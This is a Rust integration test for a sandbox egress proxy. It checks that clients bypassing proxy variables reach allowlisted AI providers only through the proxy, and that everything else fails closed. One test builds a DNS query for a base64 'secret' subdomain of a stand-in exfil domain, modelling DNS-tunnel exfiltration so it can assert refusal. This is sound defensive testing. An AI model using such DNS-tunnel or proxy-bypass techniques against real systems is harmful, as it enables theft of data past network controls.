//! Transparent egress (`proxy.enforce_network`), end to end: programs in a
//! sandbox that ignore `HTTPS_PROXY` (Node's built-in `fetch` and `https`,
//! `curl --noproxy '*'`, Python `urllib` with proxies off) reach an
//! allowlisted provider name through the proxy, and the upstream receives
//! the real key; names resolve through the proxy's DNS responder, which
//! forwards nothing; everything else is refused at once; with the proxy
//! or its DNS responder killed the sandbox reaches nothing (commands in it
//! are refused) until `hermes reconcile` restarts it.
//!
//! The provider names resolve (`proxy.resolve`) to a TLS upstream of the
//! test's own on port 443 of a loopback address unique to this process.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use hermes_tests::cli::{Run, TestHome};
use hermes_tests::docker_cli::{ProfileCleanup, docker};
use hermes_tests::egress::{bridge_gateway, free_port_pair, network_gateway};
use hermes_tests::upstream::Upstream;

const OPENROUTER_KEY: &str = "sk-or-v1-e2e-REAL-transparent-0001";
const NAMES: &[&str] = &["openrouter.ai", "api.anthropic.com"];

/// A loopback address of this process's and this test's own (`n`), so
/// that the upstream can listen on port 443 beside other tests.
fn loopback(n: u32) -> String {
    let pid = std::process::id();
    format!("127.{}.{}.{}", 70 + n, pid % 250, (pid / 250) % 250 + 1)
}

struct Enforced {
    home: TestHome,
    profile: String,
    _cleanup: ProfileCleanup,
}

impl Enforced {
    fn new(tag: &str, upstream: &Upstream) -> Enforced {
        Enforced::with_runtime(tag, upstream, None)
    }

    /// As [`Enforced::new`], the sandbox under the OCI `runtime`.
    fn with_runtime(tag: &str, upstream: &Upstream, runtime: Option<&str>) -> Enforced {
        let runtime = runtime
            .map(|r| format!("  docker_runtime: {r}\n"))
            .unwrap_or_default();
        let profile = format!("{tag}{}", std::process::id());
        let home = TestHome::with_profile(&profile);
        let ca = home.path().join("upstream-ca.pem");
        std::fs::write(&ca, &upstream.ca_pem).unwrap();
        let port = free_port_pair(Some(bridge_gateway()));
        let ip = upstream.addr.ip();
        let resolve: String = NAMES.iter().map(|n| format!("    {n}: {ip}\n")).collect();
        home.write_config(format!(
            "terminal:\n  backend: docker\n  docker_image: {}\n{runtime}security:\n  redact_secrets: false\nreconcile:\n  resync_seconds: 300\nproxy:\n  enabled: true\n  enforce_network: true\n  tunnel_port: {port}\n  upstream_deny_cidrs: [169.254.0.0/16, 10.0.0.0/8]\n  upstream_ca_file: {}\n  resolve:\n{resolve}",
            hermes_tests::test_image(),
            ca.display()
        ));
        Enforced {
            home,
            _cleanup: ProfileCleanup(profile.clone()),
            profile,
        }
    }

    fn hermes(&self, args: &[&str]) -> Run {
        let mut all = vec!["--profile", self.profile.as_str()];
        all.extend_from_slice(args);
        self.home
            .command(all)
            .env("OPENROUTER_API_KEY", OPENROUTER_KEY)
            .output()
            .unwrap()
            .into()
    }

    fn name(&self) -> String {
        format!("hermes-{}-default", self.profile)
    }

    /// `script` in the sandbox with no proxy variable set.
    fn direct(&self, script: &str) -> Run {
        let script = format!(
            "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy NODE_USE_ENV_PROXY\n{script}"
        );
        self.hermes(&["exec", "--", "sh", "-c", &script])
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.home.path().join("proxy/proxy.log")).unwrap_or_default()
    }
}

/// The network, the firewall rules (both tables) and the proxy go with
/// the test.
struct NetworkCleanup<'a> {
    host: &'a Enforced,
    network: String,
}

impl Drop for NetworkCleanup<'_> {
    fn drop(&mut self) {
        let _ = self.host.home.run(["egress", "stop"]);
        let _ = std::process::Command::new("docker")
            .args(["rm", "-f", &self.host.name()])
            .output();
        let _ = std::process::Command::new("docker")
            .args(["network", "rm", &self.network])
            .output();
        let suffix = self.network.trim_start_matches("hermes-egress-");
        let (bridge, chain) = (format!("hermes-{suffix}"), format!("HERMES-{suffix}"));
        let iptables = |args: &[&str]| {
            // Each rule may stand once or more: delete until it is gone.
            for _ in 0..8 {
                let out = std::process::Command::new("iptables")
                    .arg("-w")
                    .args(args)
                    .output();
                if !out.is_ok_and(|o| o.status.success()) {
                    break;
                }
            }
        };
        for parent in ["DOCKER-USER", "FORWARD"] {
            for rule in [
                vec![
                    "-i",
                    &bridge,
                    "-o",
                    &bridge,
                    "-j",
                    "REJECT",
                    "--reject-with",
                    "icmp-port-unreachable",
                ],
                vec![
                    "-i",
                    &bridge,
                    "-p",
                    "tcp",
                    "-j",
                    "REJECT",
                    "--reject-with",
                    "tcp-reset",
                ],
                vec![
                    "-i",
                    &bridge,
                    "-j",
                    "REJECT",
                    "--reject-with",
                    "icmp-port-unreachable",
                ],
            ] {
                let mut args = vec!["-D", parent];
                args.extend(rule);
                iptables(&args);
            }
        }
        iptables(&["-D", "INPUT", "-i", &bridge, "-j", &chain]);
        iptables(&["-t", "nat", "-D", "PREROUTING", "-i", &bridge, "-j", &chain]);
        for table in ["filter", "nat"] {
            iptables(&["-t", table, "-F", &chain]);
            iptables(&["-t", table, "-X", &chain]);
        }
    }
}

/// Node's `fetch`, Node's `https.get`, `curl --noproxy '*'` and Python's
/// `urllib` without proxies, each to `/echo` of openrouter.ai with the
/// token; each prints `<TAG> <body>` or `<TAG>ERR <why>`.
fn clients_script() -> String {
    r#"
node -e 'fetch("https://openrouter.ai/echo",{headers:{authorization:"Bearer "+process.env.OPENROUTER_API_KEY}}).then(r=>r.text()).then(t=>console.log("FETCH "+t.trim())).catch(e=>console.log("FETCHERR "+((e.cause&&e.cause.code)||e.message)))'
node -e 'require("https").get("https://openrouter.ai/echo",{headers:{authorization:"Bearer "+process.env.OPENROUTER_API_KEY}},r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>console.log("HTTPS "+b.trim()))}).on("error",e=>console.log("HTTPSERR "+e.code))'
printf 'CURL '; curl -sS --noproxy '*' --max-time 10 https://openrouter.ai/echo -H "Authorization: Bearer $OPENROUTER_API_KEY" 2>&1; echo
python3 -c '
import os, urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
req = urllib.request.Request("https://openrouter.ai/echo", headers={"Authorization": "Bearer " + os.environ["OPENROUTER_API_KEY"]})
try:
    print("URLLIB " + opener.open(req, timeout=10).read().decode().strip())
except Exception as e:
    print("URLLIBERR", e)
'
"#
    .to_string()
}

/// The JSON body each client printed after its tag.
fn echoed(stdout: &str, tag: &str) -> serde_json::Value {
    let line = stdout
        .lines()
        .find(|l| l.starts_with(&format!("{tag} ")))
        .unwrap_or_else(|| panic!("no {tag} line in:\n{stdout}"));
    serde_json::from_str(line[tag.len() + 1..].trim())
        .unwrap_or_else(|e| panic!("{tag}: {e}: {line}\n{stdout}"))
}

#[test]
fn programs_that_ignore_the_proxy_variables_reach_providers_through_the_proxy() {
    ignoring_the_proxy_variables_reaches_providers_through_the_proxy("trc", None, 1);
}

/// The same under gVisor, whose network stack is its own: the redirect
/// of ports 443/80 and the DNS responder work on its packets too.
#[test]
fn under_gvisor_programs_that_ignore_the_proxy_variables_reach_providers_through_the_proxy() {
    let runsc = hermes_tests::runsc_runtime();
    ignoring_the_proxy_variables_reaches_providers_through_the_proxy("trg", Some(&runsc), 5);
}

fn ignoring_the_proxy_variables_reaches_providers_through_the_proxy(
    tag: &str,
    runtime: Option<&str>,
    address: u32,
) {
    let upstream = Upstream::start(format!("{}:443", loopback(address)).parse().unwrap(), NAMES);
    let host = Enforced::with_runtime(tag, &upstream, runtime);
    let apply = host.hermes(&["reconcile"]);
    let network = docker(&[
        "inspect",
        "--format",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}}{{end}}",
        &host.name(),
    ])
    .trim()
    .to_string();
    let _cleanup = NetworkCleanup {
        host: &host,
        network: network.clone(),
    };
    assert_eq!(apply.code, 0, "{apply:?}");
    assert!(network.starts_with("hermes-egress-"), "{network}");
    let gateway = network_gateway(&network).to_string();
    // The sandbox's name server is the proxy's DNS responder.
    assert_eq!(
        docker(&[
            "inspect",
            "--format",
            "{{json .HostConfig.Dns}}",
            &host.name()
        ])
        .trim(),
        format!("[\"{gateway}\"]")
    );

    // Four clients, no proxy configuration: the real key arrives.
    let run = host.direct(&clients_script());
    assert_eq!(run.code, 0, "{run:?}");
    for tag in ["FETCH", "HTTPS", "CURL", "URLLIB"] {
        let echo = echoed(&run.stdout, tag);
        assert_eq!(
            echo["headers"]["authorization"],
            format!("Bearer {OPENROUTER_KEY}"),
            "{tag}: {}",
            run.stdout
        );
    }
    // The same request through HTTPS_PROXY, for the log's comparison.
    let proxied = host.hermes(&[
        "exec",
        "--",
        "sh",
        "-c",
        "curl -sS --max-time 10 https://openrouter.ai/echo -H \"Authorization: Bearer $OPENROUTER_API_KEY\"",
    ]);
    assert_eq!(proxied.code, 0, "{proxied:?}");
    // The proxy logs a request after its answer: wait (a minute at most)
    // for the four transparent lines and the CONNECT one.
    let echo_lines = |log: &str| -> Vec<serde_json::Value> {
        log.lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .filter(|l: &serde_json::Value| l["path"] == "/echo")
            .collect()
    };
    let count =
        |lines: &[serde_json::Value], via: &str| lines.iter().filter(|l| l["via"] == via).count();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let log = loop {
        let log = host.log();
        let lines = echo_lines(&log);
        if (count(&lines, "transparent") >= 4 && count(&lines, "connect") >= 1)
            || std::time::Instant::now() > deadline
        {
            break log;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    let lines = echo_lines(&log);
    let by = |via: &str| {
        lines
            .iter()
            .filter(|l| l["via"] == via)
            .map(|l| {
                (
                    l["host"].clone(),
                    l["method"].clone(),
                    l["status"].clone(),
                    l["decision"].clone(),
                    l["token"].clone(),
                )
            })
            .collect::<Vec<_>>()
    };
    let (transparent, connect) = (by("transparent"), by("connect"));
    assert_eq!(transparent.len(), 4, "{log}");
    assert_eq!(connect.len(), 1, "{log}");
    assert!(transparent.iter().all(|t| *t == connect[0]), "{log}");
    assert!(!log.contains(OPENROUTER_KEY));

    // Refused at once, with a reason: a name off the allowlist (NXDOMAIN),
    // another port of the gateway and a raw address (the default bridge's
    // gateway: a TCP reset from hermes's chain, never silence), plain HTTP to a provider (no key in
    // clear text: the proxy's JSON refusal).
    let docker0 = bridge_gateway();
    let refusals = format!(
        r#"
t() {{ python3 -c 'import time; print(time.monotonic())'; }}
s=$(t); curl -sS --noproxy '*' --max-time 20 https://not-allowed.example.org/ 2>&1 | head -c 300; echo " NAME $(python3 -c "import time; print(time.monotonic() - $s)")"
s=$(t); curl -sS --noproxy '*' --max-time 20 https://{gateway}:8443/ 2>&1 | head -c 300; echo " PORT $(python3 -c "import time; print(time.monotonic() - $s)")"
s=$(t); curl -sS --noproxy '*' --max-time 20 https://{docker0}/ 2>&1 | head -c 300; echo " RAWIP $(python3 -c "import time; print(time.monotonic() - $s)")"
s=$(t); node -e 'fetch("https://not-allowed.example.org/").catch(e=>console.log((e.cause&&e.cause.code)||e.message))'; echo " NODENAME $(python3 -c "import time; print(time.monotonic() - $s)")"
printf 'PLAIN '; curl -sS --noproxy '*' --max-time 20 http://openrouter.ai/v1/models; echo
"#
    );
    let refused = host.direct(&refusals);
    assert_eq!(refused.code, 0, "{refused:?}");
    let out = &refused.stdout;
    let took = |tag: &str| -> f64 {
        let line = out
            .lines()
            .find(|l| l.contains(&format!(" {tag} ")))
            .unwrap_or_else(|| panic!("no {tag} in {out}"));
        line.rsplit(' ').next().unwrap().parse().unwrap()
    };
    // A refusal answers at once, a silent drop only at curl's --max-time
    // of 20 s: a bound well under it tells them apart on a loaded host
    // (node's own start-up included).
    for tag in ["NAME", "PORT", "RAWIP", "NODENAME"] {
        assert!(took(tag) < 10.0, "{tag} took {} s:\n{out}", took(tag));
    }
    assert!(
        out.contains("Could not resolve host: not-allowed.example.org"),
        "{out}"
    );
    assert!(out.contains("ENOTFOUND"), "{out}");
    assert_eq!(
        out.matches("Couldn't connect to server").count(),
        2,
        "{out}"
    );
    let plain = out
        .lines()
        .find_map(|l| l.strip_prefix("PLAIN "))
        .unwrap_or_else(|| panic!("{out}"));
    let plain: serde_json::Value = serde_json::from_str(plain).unwrap();
    assert_eq!(plain["error"]["code"], "tls-required", "{out}");
    assert!(
        plain["error"]["message"]
            .as_str()
            .unwrap()
            .starts_with("hermes egress refused: "),
        "{out}"
    );
}

/// A DNS query, built by hand in the sandbox (the image has no `dig`):
/// the name server's answer code and count of answers, and how long it took.
fn dns_probe(gateway: &str, name: &str, qtype: u16) -> String {
    format!(
        r#"
import socket, struct, time
q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
for part in "{name}".split("."):
    q += bytes([len(part)]) + part.encode()
q += b"\x00" + struct.pack(">HH", {qtype}, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
t = time.monotonic()
s.sendto(q, ("{gateway}", 53))
try:
    r = s.recv(1500)
    print("RCODE", r[3] & 0xF, "ANSWERS", struct.unpack(">H", r[6:8])[0], "TOOK", time.monotonic() - t)
except Exception as e:
    print("NOANSWER", e, "TOOK", time.monotonic() - t)
"#
    )
}

#[test]
fn names_are_answered_locally_and_a_dead_proxy_or_responder_fails_closed_until_reconcile() {
    let upstream = Upstream::start(format!("{}:443", loopback(2)).parse().unwrap(), NAMES);
    let host = Enforced::new("trd", &upstream);
    let apply = host.hermes(&["reconcile"]);
    let network = docker(&[
        "inspect",
        "--format",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}}{{end}}",
        &host.name(),
    ])
    .trim()
    .to_string();
    let _cleanup = NetworkCleanup {
        host: &host,
        network: network.clone(),
    };
    assert_eq!(apply.code, 0, "{apply:?}");
    let gateway = network_gateway(&network).to_string();

    // TXT of an allowlisted name: no records, answered here. A random
    // subdomain of a name off the allowlist (what a DNS tunnel would ask):
    // NXDOMAIN at once, since the responder forwards nothing (it has no
    // upstream resolver at all), so the query can go nowhere.
    let exfil = format!("c2VjcmV0{}.exfil.example.org", std::process::id());
    let run = host.hermes(&[
        "exec",
        "--",
        "python3",
        "-c",
        &format!(
            "import subprocess\nfor code in {:?}:\n    subprocess.run(['python3', '-c', code])",
            [
                dns_probe(&gateway, "openrouter.ai", 16),
                dns_probe(&gateway, &exfil, 16),
                dns_probe(&gateway, "openrouter.ai", 1),
            ]
        ),
    ]);
    assert_eq!(run.code, 0, "{run:?}");
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{}", run.stdout);
    assert!(lines[0].starts_with("RCODE 0 ANSWERS 0 "), "{}", run.stdout);
    assert!(lines[1].starts_with("RCODE 3 ANSWERS 0 "), "{}", run.stdout);
    assert!(lines[2].starts_with("RCODE 0 ANSWERS 1 "), "{}", run.stdout);
    for line in &lines {
        let took: f64 = line.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(took < 1.0, "{line}");
    }
    let status = host.hermes(&["egress", "status", "--output", "json"]);
    let status: serde_json::Value = serde_json::from_str(&status.stdout).unwrap();
    assert!(
        status["transparent"]
            .as_str()
            .is_some_and(|d| d.starts_with(&gateway)),
        "{status}"
    );

    // The DNS responder killed while the rest of the proxy runs on (its
    // UDP socket destroyed from outside, `ss -K`): the proxy is unhealthy,
    // commands in the sandbox are refused (fail closed, exit 3) until
    // `hermes reconcile` restarts it, and then names resolve again.
    // `transparent` is where the responder listens: gateway:port.
    let port = status["transparent"]
        .as_str()
        .and_then(|a| a.rsplit(':').next())
        .unwrap_or_else(|| panic!("{status}"))
        .to_string();
    let killed = std::process::Command::new("ss")
        .args(["-K", "-u", "-a", "src", &format!("{gateway}:{port}")])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&killed.stdout).contains(&format!("{gateway}:{port}")),
        "{killed:?}"
    );
    let refused = host.hermes(&["exec", "--", "true"]);
    assert_eq!(refused.code, 3, "{refused:?}");
    assert!(
        refused.stderr.contains("DNS responder"),
        "{}",
        refused.stderr
    );
    let back = host.hermes(&["reconcile"]);
    assert_eq!(back.code, 0, "{back:?}");
    let run = host.hermes(&[
        "exec",
        "--",
        "python3",
        "-c",
        &dns_probe(&gateway, "openrouter.ai", 1),
    ]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("RCODE 0 ANSWERS 1 "),
        "{}",
        run.stdout
    );

    // The proxy killed: its DNS and ports go with it, the sandbox reaches
    // nothing (fail closed), and quickly says so.
    let pid: i32 = std::fs::read_to_string(host.home.path().join("proxy/proxy.pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid),
        nix::sys::signal::Signal::SIGKILL,
    )
    .unwrap();
    // Gone, or a zombie (a minute at most): it answers nothing from then on.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let dead = || {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |stat| {
            stat.rsplit(") ").next().is_some_and(|r| r.starts_with('Z'))
        })
    };
    while !dead() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(dead(), "the killed proxy {pid} still runs");
    let fetch = r#"node -e 'fetch("https://openrouter.ai/echo",{headers:{authorization:"Bearer "+process.env.OPENROUTER_API_KEY}}).then(r=>r.text()).then(t=>console.log("FETCH "+t.trim())).catch(e=>console.log("FETCHERR "+((e.cause&&e.cause.code)||e.message)))'"#;
    let dead = std::process::Command::new("docker")
        .args(["exec", &host.name(), "sh", "-c", fetch])
        .output()
        .unwrap();
    let dead = String::from_utf8_lossy(&dead.stdout);
    assert!(dead.starts_with("FETCHERR "), "{dead}");
    assert!(!dead.contains(OPENROUTER_KEY));

    let again = host.hermes(&["reconcile"]);
    assert_eq!(again.code, 0, "{again:?}");
    let back = host.direct(fetch);
    let echo = echoed(&back.stdout, "FETCH");
    assert_eq!(
        echo["headers"]["authorization"],
        format!("Bearer {OPENROUTER_KEY}")
    );
}
